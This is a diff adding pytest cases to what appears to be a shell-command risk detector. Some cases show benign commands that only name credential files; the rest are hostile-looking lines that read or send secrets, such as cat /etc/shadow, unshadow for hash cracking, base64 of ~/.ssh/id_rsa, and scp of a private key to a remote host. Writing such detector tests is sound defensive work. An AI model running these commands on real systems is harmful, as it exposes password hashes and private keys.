@@ -71,3 +71,36 @@ def test_credentials_that_sign_in_and_recipes_that_build_are_no_news(text):
 )
 def test_a_recipe_that_a_text_writes_is_read(text, level):
     assert written(text) == level
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls -l /etc/shadow",
+        "stat -c %a /etc/passwd /etc/shadow",
+        'chmod 640 /etc/shadow; chown root:shadow "/etc/shadow"',
+        "test -r /etc/shadow && echo readable",
+        "[ -f ~/.aws/credentials ] || exit 1",
+        '[[ -e "$HOME/.netrc" ]] && echo there',
+        "ssh -i ~/.ssh/id_rsa deploy@host.example 'systemctl restart app'",
+        "scp -i ~/.ssh/id_rsa build.tgz deploy@host.example:/srv",
+        "ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519",
+    ],
+)
+def test_a_file_that_is_only_named_is_not_read(text):
+    assert started(text) in ("none", "low")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cat /etc/shadow",
+        "cp /etc/shadow /tmp/x; ls -l /etc/shadow",
+        "ls $(cat ~/.ssh/id_rsa)",
+        "unshadow /etc/passwd /etc/shadow > /tmp/h",
+        "scp -i ~/.ssh/deploy ~/.ssh/id_rsa me@host.example:",
+        "stat ~/.ssh/id_rsa; base64 ~/.ssh/id_rsa",
+    ],
+)
+def test_a_file_that_is_named_and_read_counts(text):
+    assert started(text) in ("medium", "high", "critical")
